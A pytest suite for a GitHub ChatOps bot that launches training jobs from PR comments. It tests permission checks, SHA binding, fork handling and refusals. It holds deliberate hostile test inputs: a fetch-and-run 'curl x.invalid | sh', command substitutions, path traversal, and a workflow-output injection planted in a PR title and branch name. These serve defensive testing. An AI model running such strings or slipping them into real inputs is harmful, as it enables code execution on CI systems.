"""ChatOps: command parsing (pure), decisions (pure), and the whole flow through PyGithub
against the emulator: permission from the API, SHA binding, forks, injection attempts."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from github_emulator import REPO, SHA_A, SHA_B, GitHubEmulator, emulated_repo, emulator_config

from pipelines.github.chatops import (
    Command,
    InvalidCommand,
    decide,
    experiments_in,
    handle_event,
    parse_commands,
    write_outputs,
)
from pipelines.github.client import PullRequestInfo, PyGithubHost
from pipelines.github.comment import StickyComment
from pipelines.github.events import CommentEvent, PullRequestEvent, PullRequestRef, WorkflowDispatchEvent

EXP = "rope-theta"
INJECTIONS = [
    "/train rope-theta; curl x.invalid | sh",
    "/train $(id)",
    "/train `reboot`",
    "/train ../../etc/passwd",
    "/train rope-theta\u202e",
    "/train ROPE-THETA",
]


# --------------------------------------------------------------------------- pure


@pytest.mark.unit
def test_commands_only_at_the_start_of_a_line() -> None:
    body = "LGTM\n/train rope-theta\n> /cancel\n  /retry\nplease /train\n```\n/cancel\n```\n/trainee"
    assert parse_commands(body) == [Command("train", "rope-theta")]
    assert parse_commands("/cancel") == [Command("cancel")]
    assert parse_commands("/retry rope-theta\r\n") == [Command("retry", "rope-theta")]
    assert parse_commands("no commands here") == []


@pytest.mark.unit
@pytest.mark.parametrize("body", INJECTIONS)
def test_anything_but_one_experiment_name_is_refused(body: str) -> None:
    (command,) = parse_commands(body)
    assert isinstance(command, InvalidCommand)
    decision = decide(command, actor="erin", permission="write", pr=_pr(), validated={EXP: SHA_A})
    assert decision.action == "refuse"
    # The comment text never reaches the reply or the outputs.
    argument = body.split(" ", 1)[1]
    assert argument not in (decision.reply or "") and argument not in json.dumps(decision.outputs())


def _pr(**kw: object) -> PullRequestInfo:
    values: dict = dict(number=7, title="t", author="dana", head_sha=SHA_A, head_ref="exp", head_repo=REPO,
                        base_repo=REPO, state="open", merged=False, files=(f"experiments/{EXP}.yaml", "README.md"))
    values.update(kw)
    return PullRequestInfo(**values)


@pytest.mark.unit
def test_launch_is_bound_to_the_validated_head() -> None:
    d = decide(Command("train"), actor="erin", permission="write", pr=_pr(), validated={EXP: SHA_A})
    assert (d.action, d.experiments, d.sha, d.pr) == ("launch", (EXP,), SHA_A, 7)
    stale = decide(Command("train"), actor="erin", permission="write", pr=_pr(head_sha=SHA_B), validated={EXP: SHA_A})
    assert stale.action == "refuse" and "has not passed validation" in (stale.reply or "")


@pytest.mark.unit
@pytest.mark.parametrize("permission", ["read", "triage", "none"])
def test_without_write_access_the_refusal_is_polite(permission: str) -> None:
    d = decide(Command("train"), actor="frank", permission=permission, pr=_pr(), validated={EXP: SHA_A})
    assert d.action == "refuse" and d.reply and d.reply.startswith("Hi @frank, thanks")


@pytest.mark.unit
def test_unknown_experiment_and_no_experiment() -> None:
    d = decide(Command("train", "other-exp"), actor="erin", permission="write", pr=_pr(), validated={})
    assert d.action == "refuse" and "not an experiment this pull request" in (d.reply or "")
    d = decide(Command("train"), actor="erin", permission="write", pr=_pr(files=("README.md",)), validated={})
    assert d.action == "refuse"


@pytest.mark.unit
def test_cancel_needs_write_but_not_validation() -> None:
    d = decide(Command("cancel"), actor="erin", permission="maintain", pr=_pr(head_sha=SHA_B), validated={})
    assert d.action == "cancel" and d.experiments == (EXP,)


@pytest.mark.unit
def test_forks_need_an_explicit_maintainer_dispatch_at_the_head() -> None:
    fork = _pr(head_repo="mallory/lab")
    by_comment = decide(Command("train"), actor="mia", permission="admin", pr=fork, validated={EXP: SHA_A})
    assert by_comment.action == "refuse" and "fork" in (by_comment.reply or "")
    by_writer = decide(Command("train"), actor="erin", permission="write", pr=fork, validated={EXP: SHA_A},
                       via_dispatch=True, dispatch_sha=SHA_A)
    assert by_writer.action == "refuse"
    old_sha = decide(Command("train"), actor="mia", permission="maintain", pr=fork, validated={EXP: SHA_A},
                     via_dispatch=True, dispatch_sha=SHA_B)
    assert old_sha.action == "refuse"
    ok = decide(Command("train"), actor="mia", permission="maintain", pr=fork, validated={EXP: SHA_A},
                via_dispatch=True, dispatch_sha=SHA_A)
    assert ok.action == "launch" and ok.sha == SHA_A


@pytest.mark.unit
def test_experiment_files() -> None:
    files = ["experiments/a-b.yaml", "experiments/base/x.yaml", "experiments/_base.yaml", "experiments/c_d.yml",
             "experiments/schema.json", "src/experiments/e.yaml"]
    assert experiments_in(files) == ("a-b", "c_d")


@pytest.mark.unit
def test_outputs_file(tmp_path: Path) -> None:
    out = tmp_path / "out"
    d = decide(Command("retry"), actor="erin", permission="write", pr=_pr(), validated={EXP: SHA_A})
    write_outputs(d, out)
    lines = dict(line.split("=", 1) for line in out.read_text().splitlines())
    assert lines["launch"] == "true" and lines["retry"] == "true" and json.loads(lines["experiments"]) == [EXP]


# --------------------------------------------------------------------------- through PyGithub


@pytest.fixture
def gh() -> Iterator[GitHubEmulator]:
    with GitHubEmulator() as emulator:
        yield emulator


def _validated(gh: GitHubEmulator, n: int, sha: str = SHA_A) -> None:
    host = PyGithubHost(emulator_config(gh))
    # As the trusted comment workflow does: the validated SHA is the PR's current head.
    StickyComment.for_experiment(host, n, EXP, author=gh.bot_login).upsert("## awaiting /train", {"validated_sha": sha},
                                                                          head_sha=sha)


def _comment(n: int, body: str, author: str = "erin", association: str = "MEMBER", cid: int = 4242) -> CommentEvent:
    return CommentEvent(action="created", comment_id=cid, body=body, author=author, author_association=association,
                        issue_number=n, is_pull_request=True, repo=REPO, sender=author)


@pytest.mark.integration
def test_writer_launches_on_the_validated_head(gh: GitHubEmulator) -> None:
    n = emulated_repo(gh)
    _validated(gh, n)
    d = handle_event(_comment(n, f"/train {EXP}"), PyGithubHost(emulator_config(gh)), bot_login=gh.bot_login)
    assert (d.action, d.sha, d.experiments) == ("launch", SHA_A, (EXP,))
    assert gh.requests_made("GET", r"/collaborators/erin/permission")


@pytest.mark.integration
def test_a_newer_push_invalidates_the_pending_train(gh: GitHubEmulator) -> None:
    n = emulated_repo(gh)
    _validated(gh, n)
    gh.push(REPO, n, SHA_B)
    d = handle_event(_comment(n, "/train"), PyGithubHost(emulator_config(gh)), bot_login=gh.bot_login)
    assert d.action == "refuse" and d.sha == ""
    _validated(gh, n, SHA_B)  # the checks passed on the new head
    d = handle_event(_comment(n, "/train", cid=4243), PyGithubHost(emulator_config(gh)), bot_login=gh.bot_login)
    assert d.action == "launch" and d.sha == SHA_B


@pytest.mark.integration
def test_reader_is_refused_once_even_when_the_job_reruns(gh: GitHubEmulator) -> None:
    n = emulated_repo(gh)
    _validated(gh, n)
    # The payload claims OWNER; the API says read.
    event = _comment(n, "/train", author="frank", association="OWNER")
    host = PyGithubHost(emulator_config(gh))
    assert handle_event(event, host, bot_login=gh.bot_login).action == "refuse"
    assert handle_event(event, host, bot_login=gh.bot_login).action == "refuse"
    # More comments from the same stranger, valid or not: still one reply on the PR, not one per comment.
    assert handle_event(_comment(n, "/train", author="frank", cid=4300), host, bot_login=gh.bot_login).action == "refuse"
    assert handle_event(_comment(n, "/train $(id)", author="frank", cid=4301), host,
                        bot_login=gh.bot_login).action == "refuse"
    replies = [c for c in gh.comments(REPO, n) if "<!-- gitops-train:refused=frank -->" in c["body"]]
    assert len(replies) == 1 and "@frank" in replies[0]["body"] and "write access" in replies[0]["body"]
    assert len([c for c in gh.comments(REPO, n) if c["user"]["login"] == gh.bot_login]) == 2  # sticky + reply


@pytest.mark.integration
@pytest.mark.parametrize("body", INJECTIONS)
def test_injection_attempts_are_refused_and_never_echoed(gh: GitHubEmulator, body: str) -> None:
    n = emulated_repo(gh)
    _validated(gh, n)
    d = handle_event(_comment(n, body), PyGithubHost(emulator_config(gh)), bot_login=gh.bot_login)
    assert d.action == "refuse"
    argument = body.split(" ", 1)[1]
    for c in gh.comments(REPO, n):
        assert argument not in c["body"]


@pytest.mark.integration
def test_hostile_title_and_branch_never_reach_replies(gh: GitHubEmulator) -> None:
    gh.add_repo(REPO)
    gh.set_permission(REPO, "erin", "write")
    pr = gh.add_pull(REPO, author="mallory", head_sha=SHA_A, head_repo="mallory/lab",
                     title='x"; echo ::set-output name=launch::true; #', head_ref="$(curl x.invalid|sh)",
                     files=[f"experiments/{EXP}.yaml"])
    d = handle_event(_comment(pr["number"], "/train"), PyGithubHost(emulator_config(gh)), bot_login=gh.bot_login)
    assert d.action == "refuse" and d.reason == "fork pull request"
    (reply,) = gh.comments(REPO, pr["number"])
    assert "set-output" not in reply["body"] and "curl" not in reply["body"]
    assert "workflow" in reply["body"]


@pytest.mark.integration
def test_maintainer_dispatch_trains_a_fork_at_the_reviewed_sha(gh: GitHubEmulator) -> None:
    n = emulated_repo(gh, head_repo="mallory/lab")
    _validated(gh, n)
    host = PyGithubHost(emulator_config(gh))
    event = WorkflowDispatchEvent(ref="refs/heads/main", inputs={"pr": str(n), "sha": SHA_A}, repo=REPO, sender="mia")
    assert handle_event(event, host, bot_login=gh.bot_login).action == "launch"
    by_writer = WorkflowDispatchEvent(ref="refs/heads/main", inputs={"pr": str(n), "sha": SHA_A}, repo=REPO, sender="erin")
    assert handle_event(by_writer, host, bot_login=gh.bot_login).action == "refuse"


@pytest.mark.integration
def test_comments_on_issues_bots_and_edits_are_ignored(gh: GitHubEmulator) -> None:
    n = emulated_repo(gh)
    host = PyGithubHost(emulator_config(gh))
    plain = CommentEvent("created", 1, "/train", "erin", "MEMBER", n, False, REPO, "erin")
    bot = CommentEvent("created", 2, "/train", "github-actions[bot]", "NONE", n, True, REPO, "github-actions[bot]")
    edited = CommentEvent("edited", 3, "/train", "erin", "MEMBER", n, True, REPO, "erin")
    for event in (plain, bot, edited):
        assert handle_event(event, host, bot_login=gh.bot_login).action == "ignore"
    assert gh.requests_made() == []


def _labeled(gh: GitHubEmulator, n: int, sender: str, label: str = "train", fork: bool = False) -> PullRequestEvent:
    ref = PullRequestRef(number=n, title="t", body="", author="dana", head_sha=SHA_A, head_ref="exp",
                         head_repo="someone/lab" if fork else REPO, base_repo=REPO, base_ref="main",
                         merged=False, state="open", draft=False, labels=(label,))
    return PullRequestEvent(action="labeled", pull_request=ref, repo=REPO, sender=sender, label=label)


@pytest.mark.integration
def test_a_train_label_launches_nothing(gh: GitHubEmulator) -> None:
    """Issue 14: no label path (it would run the PR's own copy of the workflow)."""
    n = emulated_repo(gh)
    _validated(gh, n)
    host = PyGithubHost(emulator_config(gh))
    assert handle_event(_labeled(gh, n, "erin"), host, bot_login=gh.bot_login).action == "ignore"


# --------------------------------------------------------------------------- issue 14: rendering, re-validation


FENCED_AND_HIDDEN = [
    "````\n```\n/train\n```\n````",  # a fence that contains ``` is still one code block
    "<!--\n/train\n-->",  # an HTML comment GitHub hides
    "> quoted text\n/train",  # a lazy continuation of the quote
    "    /train",  # indented code
    "- /train",  # a list item
    "`/train`",  # inline code
    "Please run\n`x`/train",  # not at the start of a rendered line
    "see trainer/train.py and https://ci.invalid/runs/1/retry",
    "/trainer",
]


@pytest.mark.unit
@pytest.mark.parametrize("body", FENCED_AND_HIDDEN)
def test_commands_only_where_github_renders_a_top_level_paragraph_line(body: str) -> None:
    assert parse_commands(body) == []


@pytest.mark.unit
def test_commands_github_shows_at_a_line_start_still_count() -> None:
    assert parse_commands("LGTM, thanks\n/train rope-theta") == [Command("train", "rope-theta")]
    assert parse_commands("```\ncode\n```\n\n/cancel\r\n") == [Command("cancel")]
    assert parse_commands("/train `rope-theta`") == [InvalidCommand("train", parse_commands("/train a b")[0].reason)]


@pytest.mark.integration
def test_train_revalidates_the_experiment_files_at_the_sha(gh: GitHubEmulator) -> None:
    n = emulated_repo(gh)
    _validated(gh, n)
    # The PR's own workflow reported success, but the file at the head does not validate.
    gh.add_tree(REPO, SHA_A, {f"experiments/{EXP}.yaml": b"name: rope-theta\ntrain:\n  lr: -1\n"})
    d = handle_event(_comment(n, "/train"), PyGithubHost(emulator_config(gh)), bot_login=gh.bot_login)
    assert d.action == "refuse" and d.reason == "experiment files do not validate at the head"
    assert any("does not pass `pipeline validate`" in c["body"] for c in gh.comments(REPO, n))
    assert gh.requests_made("GET", rf"/repos/{REPO}/contents/experiments$")


@pytest.mark.integration
def test_dispatch_without_sha_trains_a_same_repo_pr_at_its_validated_head(gh: GitHubEmulator) -> None:
    n = emulated_repo(gh)
    _validated(gh, n)
    event = WorkflowDispatchEvent(ref="refs/heads/main", inputs={"pr": str(n), "command": "train"}, repo=REPO,
                                  sender="erin")
    d = handle_event(event, PyGithubHost(emulator_config(gh)), bot_login=gh.bot_login)
    assert (d.action, d.sha) == ("launch", SHA_A), d.reason


@pytest.mark.unit
def test_more_experiments_than_the_cap_are_refused_with_a_clear_message() -> None:
    """Issue 19 item 5: one PR of many experiment files cannot start that many jobs."""
    from pipelines.github.chatops import MAX_EXPERIMENTS_PER_PR

    names = [f"exp-{i:02d}" for i in range(MAX_EXPERIMENTS_PER_PR + 1)]
    pr = _pr(files=tuple(f"experiments/{n}.yaml" for n in names))
    d = decide(Command("train"), actor="erin", permission="write", pr=pr, validated=dict.fromkeys(names, SHA_A))
    assert d.action == "refuse" and d.reply and f"at most {MAX_EXPERIMENTS_PER_PR}" in d.reply
    one = decide(Command("train", names[0]), actor="erin", permission="write", pr=pr,
                 validated=dict.fromkeys(names, SHA_A))
    assert one.action == "launch" and one.experiments == (names[0],)
